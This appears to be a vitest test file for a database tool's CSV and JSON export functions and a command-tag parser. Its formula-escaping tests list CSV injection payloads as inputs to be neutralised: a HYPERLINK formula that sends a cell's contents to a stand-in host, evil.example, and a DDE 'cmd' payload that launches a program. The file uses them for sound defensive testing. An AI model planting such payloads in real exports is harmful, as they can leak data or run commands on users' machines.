import { describe, expect, it } from 'vitest'
import { parseCommandTag } from './collect-query'
import { csvChunks, csvField, escapeFormula, jsonChunks } from './export-format'

async function* batches(...list: (string | null)[][][]) {
  yield* list
}
const collect = async (chunks: AsyncIterable<string>) => {
  let text = ''
  for await (const chunk of chunks) text += chunk
  return text
}

describe('formulas in CSV', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    // plain numbers stay numbers, whatever their sign; text that only contains a sign later is fine
    ['-5', '-5'],
    ['+1.5e3', '+1.5e3'],
    ['-.5', '-.5'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (value, escaped) => {
    expect(escapeFormula(value)).toBe(escaped)
  })

  it('escapes cells and column names by default, and keeps them raw when asked', async () => {
    const columns = [
      { name: '=name', type: 'text', typeId: 25 },
      { name: 'n', type: 'int4', typeId: 23 },
    ]
    const rows = [
      ['=1+1', '-3'],
      ['@x, y', null],
    ]
    expect(await collect(csvChunks(columns, batches(rows)))).toBe(`'=name,n\r\n'=1+1,-3\r\n"'@x, y",\r\n`)
    expect(await collect(csvChunks(columns, batches(rows), 'keep'))).toBe('=name,n\r\n=1+1,-3\r\n"@x, y",\r\n')
  })
})

describe('csv', () => {
  it.each([
    [null, ''],
    ['', '""'],
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    [' lead', '" lead"'],
  ])('%j → %s', (value, field) => {
    expect(csvField(value)).toBe(field)
  })

  it('writes a header and CRLF lines', async () => {
    const columns = [
      { name: 'id', type: 'int4', typeId: 23 },
      { name: 'note, text', type: 'text', typeId: 25 },
    ]
    expect(await collect(csvChunks(columns, batches([['1', null]], [['2', 'x']])))).toBe(
      'id,"note, text"\r\n1,\r\n2,x\r\n',
    )
  })

  it('writes booleans as the grid shows them, NULL still empty', async () => {
    const columns = [
      { name: 'ok', type: 'bool', typeId: 16 },
      { name: 'flags', type: '_bool', typeId: 1000 },
      { name: 'label', type: 'text', typeId: 25 },
    ]
    const rows: (string | null)[][] = [
      ['t', '{t,f}', 'f'],
      ['f', '{f,NULL,t}', 't'],
      [null, '{}', null],
    ]
    expect(await collect(csvChunks(columns, batches(rows)))).toBe(
      'ok,flags,label\r\ntrue,"{true,false}",f\r\nfalse,"{false,NULL,true}",t\r\n,{},\r\n',
    )
  })
})

describe('json', () => {
  it('writes objects with typed values, json passed through', async () => {
    const columns = [
      { name: 'id', type: 'int4', typeId: 23 },
      { name: 'doc', type: 'jsonb', typeId: 3802 },
      { name: 'big', type: 'int8', typeId: 20 },
      { name: 'ok', type: 'bool', typeId: 16 },
    ]
    const text = await collect(
      jsonChunks(columns, batches([['1', '{"a": 1}', '9007199254740993', 't']], [], [['2', null, null, 'f']])),
    )
    expect(JSON.parse(text)).toEqual([
      { id: 1, doc: { a: 1 }, big: '9007199254740993', ok: true },
      { id: 2, doc: null, big: null, ok: false },
    ])
    expect(await collect(jsonChunks(columns, batches()))).toBe('[\n]\n')
  })
})

describe('parseCommandTag', () => {
  it.each([
    ['SELECT 3', 'SELECT', 3],
    ['INSERT 0 5', 'INSERT', 5],
    ['CREATE TABLE', 'CREATE TABLE', null],
    ['DO', 'DO', null],
  ])('%s', (tag, command, rowCount) => {
    expect(parseCommandTag(tag)).toEqual({ command, rowCount })
  })
})
